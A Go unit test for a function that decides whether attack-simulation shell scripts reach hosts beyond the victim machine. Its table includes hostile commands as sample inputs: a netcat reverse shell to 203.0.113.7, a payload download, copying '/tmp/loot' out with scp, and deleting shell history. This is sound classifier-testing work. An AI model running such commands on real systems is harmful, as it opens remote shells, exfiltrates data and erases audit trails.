package atomics

import "testing"

func TestReachesNetwork(t *testing.T) {
	for _, tc := range []struct {
		script string
		want   string // "" = stays on the victim
	}{
		{"apt-get update && apt-get install -y cron", "apt-get update"},
		{"yum -y install epel-release", "yum -y install"},
		{"pip3 install --user requests", "pip3 install"},
		{"python3 -m pip install impacket", "python3 -m pip install"},
		{"git clone https://github.com/x/y /tmp/y", "git clone"},
		{"curl -sSfo /tmp/x https://downloads.example.org/x.sh", "a URL on downloads.example.org"},
		{"wget example.org/payload -O /tmp/p", "wget to example.org"},
		{"nc -e /bin/sh 203.0.113.7 4444", "nc to 203.0.113.7"},
		{"ping -c 1 8.8.8.8", "ping to 8.8.8.8"},
		{"nmap -sS 192.168.1.0/24", "nmap to 192.168.1.0"},
		{"ssh -T analyst@build.internal.example hostname", "ssh to build.internal.example"},
		{"scp /tmp/loot user@10.1.2.3:/tmp/", "scp to 10.1.2.3"},
		{"dig @1.1.1.1 example.com", "dig to 1.1.1.1"},
		{"curl http://[2001:db8::1]/x", "a URL on 2001:db8::1"},

		{"curl -s http://127.0.0.1:8080/x", ""},
		{"curl http://localhost/x; wget http://[::1]/y", ""},
		{"ncat -l 127.0.0.1 8931 --send-only < /tmp/payload &\nncat 127.0.0.1 8931 > /tmp/out.txt", ""},
		{"nc -l -p 4444 > /tmp/received.bin", ""},
		{"sshpass -p 'x' ssh testuser1@localhost -t hostname", ""},
		{"scp /tmp/a.txt /tmp/b.txt", ""},
		{"echo 'apt is a package manager' > /tmp/notes.txt", ""},
		{"rm -f ~/.bash_history", ""},
		{"crontab -l > /tmp/notevil", ""},
	} {
		got, ok := reachesNetwork(tc.script)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("reachesNetwork(%q) = %q, %v; want %q", tc.script, got, ok, tc.want)
		}
	}
}
